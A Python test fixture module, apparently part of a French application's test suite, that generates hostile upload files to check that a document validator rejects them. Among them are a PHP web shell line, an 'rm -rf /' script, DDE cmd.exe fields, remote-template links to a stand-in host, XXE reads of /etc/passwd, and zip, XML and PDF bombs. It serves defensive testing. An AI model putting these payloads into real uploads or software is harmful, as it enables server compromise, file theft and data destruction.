"""About two hundred hostile files, made in memory, family by family (S47 to S55).

A case is (name, content, words): the words are in the sentence that refuses the file. The contents
are made when they are asked for: some are several megabytes.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache

from PIL import Image

from tests.applications.files import (
    WORD_TYPES,
    docx_bytes,
    jpeg_with_place,
    odt_bytes,
    pdf_bytes,
    png_bytes,
    zip_bytes,
)
from tests.applications.hostile_pdf import object_stream, references, without_page, written_pdf

KIND, MISMATCH, EMPTY = "pas accepté", "ne correspond pas", "vide"
LOCKED, BOMB, HUGE = "mot de passe", "démesuré", "trop grande"
NESTED, MACROS, ACTIVE = "archive ou un programme", "macros", "agit à son ouverture"

PDF, DOCX, ODT, PNG = pdf_bytes(), docx_bytes(), odt_bytes(), png_bytes((120, 90))
JPEG = jpeg_with_place()
HTML = b"<html><script>alert(1)</script></html>"
PHP = b"<?php system($_GET['c']); __HALT_COMPILER(); ?>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@dataclass(frozen=True)
class Case:
    family: str
    name: str
    make: Callable[[], bytes]
    words: str

    @property
    def id(self) -> str:
        return f"{self.family}-{self.name[:30]}"


def _case(family: str, name: str, content, words: str) -> Case:
    return Case(family, name, content if callable(content) else lambda: content, words)


def kinds() -> Iterator[Case]:
    """What is not on the list, whatever is inside."""
    extensions = (
        "exe com scr bat cmd ps1 vbs js jse hta lnk jar msi dll sh py php html htm xhtml svg xml "
        "mht eml zip rar 7z tar gz iso docm dotm xlsm xltm pptm ppam doc xls ppt rtf gif bmp webp "
        "tiff csv txt url odb"
    )
    for extension in extensions.split():
        yield _case("kind", f"devis.{extension}", PDF, KIND)
    for name in ("devis.pdf.exe", "devis.pdf .exe", "devis.pdf\x00.exe", "devis", "pdf", "devis."):
        yield _case("double", name, PDF, KIND)
    yield _case("rtl", "devis\u202efdp.exe", PDF, KIND)


def contents() -> Iterator[Case]:
    """A name of the list, and something else inside."""
    others = {
        "exe": b"MZ\x90\0" + b"\0" * 100,
        "elf": b"\x7fELF" + b"\0" * 100,
        "script": b"#!/bin/sh\nrm -rf /\n",
        "html": HTML,
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "php": PHP,
        "gif": b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)",
        "text": b"bonjour",
    }
    for extension in ("pdf", "docx", "odt", "png", "jpg", "xlsx"):
        yield _case("empty", f"vide.{extension}", b"", EMPTY)
        for what, content in others.items():
            yield _case("magic", f"{what}.{extension}", content, MISMATCH)
    pairs = {"pdf": DOCX, "png": JPEG, "jpg": PNG, "xlsx": DOCX, "ods": ODT, "pptx": DOCX}
    for extension, content in {**pairs, "odt": DOCX, "docx": ODT, "jpeg": PDF}.items():
        yield _case("swapped", f"autre.{extension}", content, MISMATCH)


def truncated() -> Iterator[Case]:
    wholes = {"docx": DOCX, "odt": ODT, "png": PNG, "jpg": JPEG}
    for extension, whole in wholes.items():
        for percent in (1, 20, 40, 60, 80):
            cut = whole[: max(1, len(whole) * percent // 100)]
            yield _case("cut", f"coupe{percent}.{extension}", cut, MISMATCH)
    for size in (5, 9, 40, 80):
        yield _case("cut", f"coupe{size}.pdf", PDF[:size], MISMATCH)


def polyglots() -> Iterator[Case]:
    """Two files in one. Images are not here: drawn again, they are one file only."""
    archive = zip_bytes({"a.html": HTML})
    head = PDF.replace(b"\n", b"\n%" + HTML + b"\n", 1)
    yield _case("polyglot", "pdf-zip.pdf", PDF + archive, MISMATCH)
    yield _case("polyglot", "pdf-html-tete.pdf", head, MISMATCH)
    yield _case("polyglot", "pdf-html-queue.pdf", PDF + HTML, MISMATCH)
    yield _case("polyglot", "pdf-php.pdf", PDF + PHP, MISMATCH)
    yield _case("polyglot", "html-pdf.pdf", HTML + PDF, MISMATCH)
    yield _case("polyglot", "docx-html.docx", DOCX + HTML, MISMATCH)
    yield _case("polyglot", "exe-docx.docx", b"MZ\x90\0" + DOCX, MISMATCH)
    yield _case("polyglot", "pdf-docx.docx", PDF + DOCX, MISMATCH)
    yield _case("polyglot", "commentaire.docx", _commented(DOCX), MISMATCH)


def _commented(archive: bytes) -> bytes:
    return archive[:-2] + struct.pack("<H", len(HTML)) + HTML


def locked() -> Iterator[Case]:
    encrypted = '<manifest><encryption-data xmlns="x"/></manifest>'
    mimetype = "application/vnd.oasis.opendocument.text"
    odf = zip_bytes(
        {"mimetype": mimetype, "content.xml": "<o/>", "META-INF/manifest.xml": encrypted}
    )
    yield _case("locked", "secret.pdf", pdf_bytes("secret"), LOCKED)
    yield _case("locked", "secret.odt", odf, LOCKED)
    yield _case("locked", "flag.docx", lambda: _flagged(DOCX), LOCKED)
    for extension in ("docx", "xlsx", "pptx"):
        yield _case("locked", f"secret.{extension}", OLE + b"\0" * 600, LOCKED)


def _flagged(archive: bytes) -> bytes:
    """Every entry says that it is encrypted, in both its headers."""
    made = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = made.find(signature)
        while at >= 0:
            made[at + offset] |= 1
            at = made.find(signature, at + 4)
    return bytes(made)


def traps() -> Iterator[Case]:
    """Office documents that act, or carry something that does."""
    for name in ("vbaProject.bin", "vbaData.xml", "macrosheets/sheet1.xml"):
        yield _case("macro", f"{name[:8]}.docx", docx_bytes(**{name: b"x"}), MACROS)
    enabled = WORD_TYPES.replace(
        "</Types>",
        '<Override ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>',
    )
    yield _case("macro", "renomme.docx", _docx(**{"[Content_Types].xml": enabled}), MACROS)
    for name in ("Basic/Standard/Module1.xml", "Scripts/python/a.py"):
        yield _case("macro", f"{name[:5]}.odt", _odt(**{name: b"x"}), MACROS)
    for name in ("dedans.zip", "dedans.exe", "dedans.jar", "a.lnk", "a.7z", "a.js", "a.iso"):
        yield _case("nested", f"{name}.docx", docx_bytes(**{name: b"x"}), NESTED)
    for name in ("embeddings/oleObject1.bin", "activeX/activeX1.xml", "embeddings/a.bin"):
        yield _case("ole", f"{name[-8:-4]}.docx", docx_bytes(**{name: b"x"}), ACTIVE)
    for command in ("DDEAUTO c:\\\\windows\\\\cmd.exe", "DDE cmd"):
        text = f"<w><instrText>{command}</instrText></w>"
        yield _case("dde", f"{command[:4]}.docx", _docx(**{"word/document.xml": text}), ACTIVE)
    yield _case(
        "dde", "liens.docx", docx_bytes(**{"a.xml": b'<x><ddeLink ddeService="c"/></x>'}), ACTIVE
    )
    for kind in ("attachedTemplate", "oleObject", "frame", "subDocument"):
        for target in ("https://mal.example/t.dotm", "file://\\\\mal.example\\t\\a.dotm"):
            yield _case("remote", f"{kind}-{target[:5]}.docx", _linked(kind, target), ACTIVE)


def _docx(**parts: str) -> bytes:
    return zip_bytes({"[Content_Types].xml": WORD_TYPES, "word/document.xml": "<w/>", **parts})


def _odt(**more: bytes) -> bytes:
    base = {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<o/>"}
    return zip_bytes({**base, "META-INF/manifest.xml": "<manifest/>", **more})


def _linked(kind: str, target: str) -> bytes:
    schema = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    link = f'<Relationship Type="{schema}{kind}" Target="{target}" TargetMode="External"/>'
    return _docx(**{"word/_rels/settings.xml.rels": f"<Relationships>{link}</Relationships>"})


def entities() -> Iterator[Case]:
    laughs = '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(
        f'<!ENTITY a{n} "{"&a" + (str(n - 1) if n else "") + ";"}">' for n in range(1, 10)
    )
    bodies = {
        "laughs": f"{laughs}]><a>&a9;</a>",
        "file": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "http": '<!DOCTYPE a SYSTEM "http://mal.example/a.dtd"><a/>',
        "utf16": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'.encode("utf-16"),
    }
    for what, body in bodies.items():
        for part in ("[Content_Types].xml", "word/document.xml", "word/_rels/a.rels"):
            yield _case("entity", f"{what}-{part[-9:-4]}.docx", _docx(**{part: body}), MISMATCH)
    yield _case("entity", "contenu.odt", _odt(**{"content.xml": bodies["file"].encode()}), MISMATCH)
    deep = "<a>" * 50_000 + "</a>" * 50_000
    for part in ("[Content_Types].xml", "word/document.xml"):
        yield _case("depth", f"{part[-9:-4]}.docx", _docx(**{part: deep}), BOMB)


def archives() -> Iterator[Case]:
    """Bombs, and entries that point elsewhere."""
    for name in ("../../passwd", "/etc/passwd", "C:\\a.xml", "a/../../b", "..\\..\\a"):
        yield _case("outside", f"{name[-6:]}.docx", _docx(**{name: "x"}), MISMATCH)
    yield _case("symlink", "lien.docx", _symlinked, MISMATCH)
    yield _case("method", "lzma.docx", _packed_otherwise, MISMATCH)
    yield _case("twice", "double.docx", _twice, MISMATCH)
    yield _case("bomb", "ratio.docx", lambda: docx_bytes(**{"a.xml": b"0" * 50_000_000}), BOMB)
    yield _case("bomb", "ratio.odt", lambda: _odt(**{"a.xml": b"0" * 50_000_000}), BOMB)
    many = {f"p{number}.xml": b"x" for number in range(2_001)}
    yield _case("bomb", "milliers.docx", lambda: docx_bytes(**many), BOMB)
    yield _case("bomb", "annonce.docx", _lying, BOMB)


def _symlinked() -> bytes:
    made = io.BytesIO(DOCX)
    with zipfile.ZipFile(made, "a") as archive:
        link = zipfile.ZipInfo("word/lien.xml")
        link.external_attr = 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return made.getvalue()


def _packed_otherwise() -> bytes:
    made = io.BytesIO(DOCX)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_LZMA) as archive:
        archive.writestr("word/autre.xml", "<a/>")
    return made.getvalue()


def _twice() -> bytes:
    """The same part, twice: readers do not agree on which counts."""
    made = zip_bytes(
        {
            "[Content_Types].xml": WORD_TYPES,
            "word/document.xml": "<w/>",
            "word/documenX.xml": "<w/>",
        }
    )
    return made.replace(b"word/documenX.xml", b"word/document.xml")


def _lying() -> bytes:
    """The directory announces three gigabytes for an entry."""
    made = bytearray(DOCX)
    at = made.rfind(b"PK\x01\x02")
    made[at + 24 : at + 28] = (3 * 2**30).to_bytes(4, "little")
    return bytes(made)


def images() -> Iterator[Case]:
    yield _case("huge", "points.png", lambda: png_bytes((8_000, 5_001)), HUGE)
    yield _case("huge", "annonce.png", lambda: _announcing(20_000), HUGE)
    yield _case("huge", "annonce2.png", lambda: _announcing(2**31 - 1), HUGE)
    text = png_chunk(b"zTXt", b"a\0\0" + zlib.compress(b"0" * 50_000_000))
    yield _case("chunk", "texte.png", lambda: PNG[:33] + text + PNG[33:], MISMATCH)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def _announcing(side: int) -> bytes:
    header = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return PNG[:8] + png_chunk(b"IHDR", header) + PNG[33:]


def pdfs() -> Iterator[Case]:
    """PDF bombs: cross-references, object streams, endless arrays, nesting, objects by thousands."""
    yield _case("pdf", "references.pdf", lambda: references(64), BOMB)
    yield _case("pdf", "flux.pdf", lambda: object_stream(300), BOMB)
    yield _case("pdf", "profond.pdf", lambda: written_pdf({4: b"[" * 9_999 + b"]" * 9_999}), BOMB)
    yield _case("pdf", "large.pdf", lambda: written_pdf({4: b"[" + b"0 " * 9_000_000 + b"]"}), BOMB)
    yield _case("pdf", "objets.pdf", lambda: b"%PDF-1.7\n" + b"1 0 obj 1 endobj\n" * 900_000, BOMB)
    yield _case("pdf", "sans-page.pdf", without_page, MISMATCH)
    yield _case("pdf", "bruit.pdf", b"%PDF-1.7\n" + bytes(range(256)) * 4_000, MISMATCH)


@cache
def refused() -> tuple[Case, ...]:
    families = (kinds, contents, truncated, polyglots, locked, traps, entities, archives, images)
    return tuple(case for family in (*families, pdfs) for case in family())


def neutralised() -> dict[str, bytes]:
    """Images with something behind or inside: what is kept is the picture alone."""
    marked = io.BytesIO()
    Image.new("RGB", (40, 30), "green").save(
        marked, "JPEG", comment=PHP, icc_profile=b"Marque" * 20
    )
    return {
        "zip.png": PNG + zip_bytes({"a.html": HTML}),
        "html.png": PNG[:33] + png_chunk(b"tEXt", b"Comment\0" + HTML) + PNG[33:],
        "js.jpg": JPEG + b"/*" + HTML + b"*/",
        "phar.jpg": JPEG + PHP,
        "php.jpg": marked.getvalue(),
        "lieu.jpg": JPEG,
    }
